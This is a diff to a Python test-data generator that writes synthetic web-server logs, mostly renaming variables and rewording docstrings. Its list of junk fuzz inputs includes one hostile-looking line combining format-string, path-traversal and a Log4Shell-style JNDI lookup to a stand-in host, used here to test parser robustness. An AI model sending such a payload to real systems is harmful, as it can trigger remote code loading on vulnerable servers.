@@ -49,8 +49,8 @@ class LogFile:
 
 def write_down(request: Request, form: Form, rng: random.Random) -> Line:
     kind = "crawler" if request.crawler and form.agents else "other"
-    told = form.agents and (request.crawler or request.client.unknown)
-    return Line(form.line(request, None, rng), kind, request if told else None)
+    crawler = form.agents and (request.crawler or request.client.unknown)
+    return Line(form.line(request, None, rng), kind, request if crawler else None)
 
 
 def make_file(
@@ -67,7 +67,7 @@ def make_file(
 
 
 def kind_unread(raw: bytes) -> str | None:
-    """What a line is that nobody can read; None where a token stands within a word: that is no fact."""
+    """Return the kind of a broken line; None if a token is part of a word, which is ambiguous."""
     lowered = raw.lower()
     if _WHOLE.search(lowered):
         return "unreadable"
@@ -82,19 +82,19 @@ def _junk(form: Form, carried: list[Request], rng: random.Random) -> Iterator[Li
     long = True
     while True:
         some = rng.choice(browsers)
-        whole = form.line(some, None, rng)
+        complete = form.line(some, None, rng)
         raw = rng.choice(
             (
                 b"",
                 b"   ",
                 rng.randbytes(rng.randint(1, 200)).replace(b"\n", b"").replace(b"\r", b""),
-                whole[: rng.randint(0, len(whole) // 3)],
+                complete[: rng.randint(0, len(complete) // 3)],
                 b'"' * rng.randint(1, 50),
                 b"{" * 200 + b"[" * 5000,
                 b"%s%s%s%n %00%0a%0d%2e%2e/ ${jndi:ldap://x.example/a}",
                 b"\xed\xa0\x80\xff\xfe \xc3( \x1b[31mred\x1b[0m",
                 b"one\rreturn and \xe2\x80\xa8 \xc2\x85 \x0b \x0c \x1c that end no line",
-                whole[: rng.randint(0, len(whole) // 3)] + b" " + rng.choice(names),
+                complete[: rng.randint(0, len(complete) // 3)] + b" " + rng.choice(names),
                 form.line(some, rng.choice(_NO_TIMES), rng) + b" " + rng.choice(names),
                 form.line(rng.choice(crawlers), rng.choice(_NO_TIMES), rng),
                 rng.choice(form.broken),
@@ -111,24 +111,24 @@ def _junk(form: Form, carried: list[Request], rng: random.Random) -> Iterator[Li
 
 
 def write_file(file: LogFile, folder: Path, rng: random.Random) -> None:
-    """As its name says: plain, ``.gz`` (several members) or ``.zst`` (several frames).
+    """Write a log as its name implies: plain, ``.gz`` (several members) or ``.zst`` (several frames).
 
     Lines end in LF or CRLF; the last one sometimes in nothing.
     """
     newline = rng.choice((b"\n", b"\n", b"\r\n"))
-    octets = newline.join(line.raw for line in file.lines)
-    if rng.random() < 0.7 or not octets or not file.lines[-1].raw:  # else the last line would be no line
-        octets += newline
-    (folder / file.name).write_bytes(packed(octets, file.name, rng))
+    data = newline.join(line.raw for line in file.lines)
+    if rng.random() < 0.7 or not data or not file.lines[-1].raw:  # else the last line would be no line
+        data += newline
+    (folder / file.name).write_bytes(packed(data, file.name, rng))
 
 
-def packed(octets: bytes, name: str, rng: random.Random) -> bytes:
-    cuts = sorted(rng.randint(0, len(octets)) for _ in range(rng.randint(0, 3)))
-    parts = [octets[a:b] for a, b in zip([0, *cuts], [*cuts, len(octets)], strict=True)]
+def packed(data: bytes, name: str, rng: random.Random) -> bytes:
+    cuts = sorted(rng.randint(0, len(data)) for _ in range(rng.randint(0, 3)))
+    parts = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
     if name.endswith(".gz"):
         return b"".join(gzip.compress(part, 1) for part in parts)
     if name.endswith(".zst"):
         from backports import zstd
 
         return b"".join(zstd.compress(part) for part in parts)
-    return octets
+    return data
